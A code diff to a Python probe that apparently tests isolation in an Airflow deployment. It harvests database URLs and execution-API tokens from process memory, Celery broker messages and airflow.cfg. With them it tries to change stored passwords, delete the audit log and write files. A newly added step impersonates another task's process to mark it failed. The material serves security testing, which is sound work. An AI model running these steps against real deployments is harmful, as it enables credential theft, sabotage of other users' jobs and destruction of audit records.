@@ -5,6 +5,7 @@ Prints no secret: of what it finds it tells SHA-256 sums, which the case compare
 
 import base64
 import ctypes
+import getpass
 import hashlib
 import json
 import os
@@ -17,12 +18,13 @@ import urllib.request
 from airflow.triggers.base import BaseTrigger, TriggerEvent
 
 URL = re.compile(rb"(?:postgresql|rediss)[+a-z0-9]*://[!-~]{8,300}")
+NOW = "2026-01-01T00:00:00Z"
 TOKEN = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}")
 
 
 def tell(answers: dict) -> str:
-    """For a log, which has its own ways with quotes."""
-    return f"FOUND {base64.b64encode(json.dumps(answers).encode()).decode()} END"
+    """For a log, which has its own ways with quotes, and takes base64 of JSON for a token, which it masks."""
+    return f"FOUND {json.dumps(answers).encode().hex()} END"
 
 
 def attempt(function, *arguments) -> str:
@@ -107,7 +109,8 @@ def orm() -> str:
         return f"{session.query(Connection).count()} connections"
 
 
-def execution(method: str, path: str, token: str, body=None) -> str:
+def execution(method: str, path: str, token: str, body=None) -> tuple[str, str]:
+    """Returns the status, and the token that the answer gives instead."""
     import certifi
 
     request = urllib.request.Request(
@@ -116,19 +119,37 @@ def execution(method: str, path: str, token: str, body=None) -> str:
     )  # fmt: skip
     try:
         with urllib.request.urlopen(request, timeout=10, context=ssl.create_default_context(cafile=certifi.where())) as answer:
-            return str(answer.status)
+            return str(answer.status), answer.headers.get("Refreshed-API-Token", "")
     except urllib.error.HTTPError as fault:
-        return str(fault.code)
+        return str(fault.code), ""
 
 
-def tokens(texts) -> dict[str, str]:
-    """Task instance -> token for the execution API."""
+def end(task: str, token: str) -> str:
+    return execution("PATCH", f"task-instances/{task}/state", token, {"state": "failed", "end_date": NOW})[0]
+
+
+def end_as_its_process(task: str, token: str) -> str:
+    """3.3: a message's token starts its task, or again for who says to be the process that did; the answer has one for the rest."""
+    status = end(task, token)
+    if status != "403":
+        return status
+    from airflow.sdk.api.client import get_hostname
+
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        body = {"state": "running", "hostname": get_hostname(), "unixname": getpass.getuser(), "pid": int(pid), "start_date": NOW}
+        if theirs := execution("PATCH", f"task-instances/{task}/run", token, body)[1]:
+            return f"403, and {end(task, theirs)} as its process"
+    return status
+
+
+def tokens(texts) -> dict[str, list[str]]:
+    """Task instance -> tokens for the execution API."""
     found = {}
     for text in texts:
         text = text.decode() if isinstance(text, bytes) else text
         payload = text.split(".")[1]
         try:
-            found[json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))["sub"]] = text
+            found.setdefault(json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))["sub"], []).append(text)
         except (ValueError, KeyError):
             continue
     return found
@@ -143,10 +164,9 @@ def broker(conf: dict) -> dict:
     held = b" ".join(client.hvals("unacked"))
     bodies = [base64.b64decode(body) for body in re.findall(rb'"body": "([\w+/=]+)"', held)]
     theirs = tokens(TOKEN.findall(b" ".join(bodies)))
-    end = {"state": "failed", "end_date": "2026-01-01T00:00:00Z"}
     return {
         "broker": f"{len(client.keys('celery-task-meta-*')) > 0} results, {len(theirs) > 0} tokens of running tasks",
-        "another's token": attempt(execution, "PATCH", f"task-instances/{conf['other']}/state", theirs.get(conf["other"], ""), end),
+        "another's token": attempt(end_as_its_process, conf["other"], theirs.get(conf["other"], [""])[0]),
     }
 
 
@@ -157,6 +177,8 @@ def look(conf: dict, place: str, own: str = "") -> dict:
     mine = memory("self")
     parents = attempt(lambda: len(memory(os.getppid())))
     address = next((value for value in sorted(found) if value.startswith("postgresql+psycopg2://") and "@" in value), "")
+    config = attempt(lambda: open("/opt/airflow/home/airflow.cfg").read())
+    found |= words(config.replace(" = ", "=").replace("\n", "\0"))
     for text in mine:
         found |= words(text.decode(errors="replace").strip("\"'}"))
     login = address.replace("+psycopg2", "").split("?")[0] + "?sslmode=require" if address else f"host={conf['database']} user=airflow dbname=airflow sslmode=require"
@@ -167,15 +189,17 @@ def look(conf: dict, place: str, own: str = "") -> dict:
         "change connections": attempt(database, login, "update connection set password = 'x'"), "schema": attempt(database, login, "create table hostile (a int)"),
         "audit log": attempt(database, login, "delete from log"),
         "dags": attempt(write, "/opt/airflow/sync/dags/hostile_written.py"), "root": attempt(write, "/opt/airflow/bin/hostile"),
-        "airflow.cfg": attempt(lambda: len(open("/opt/airflow/home/airflow.cfg").read().strip())),
+        "airflow.cfg": "read" if "[core]" in config else config,
         "guard": attempt(reach, "127.0.0.1", 9102), "internet": attempt(reach, "192.0.2.1", 443), "credentials": attempt(credentials),
     }  # fmt: skip
     if place == "worker":
-        token = tokens(text for text in mine if text.startswith(b"eyJ")).get(own, "")
-        answers |= {
-            "own token": attempt(execution, "GET", f"variables/{conf['variable']}", token),
-            "another's task, own token": attempt(execution, "PATCH", f"task-instances/{conf['other']}/state", token, {"state": "failed", "end_date": "2026-01-01T00:00:00Z"}),
-        }
+        # 3.3 has a token for the start, and one for the rest.
+        token, answers["own token"] = "", "none found"
+        for token in tokens(text for text in mine if text.startswith(b"eyJ")).get(own, []):
+            answers["own token"] = attempt(lambda: execution("GET", f"variables/{conf['variable']}", token)[0])
+            if answers["own token"] == "200":
+                break
+        answers["another's task, own token"] = attempt(end, conf["other"], token)
         answers |= broker(conf)
     return answers
 
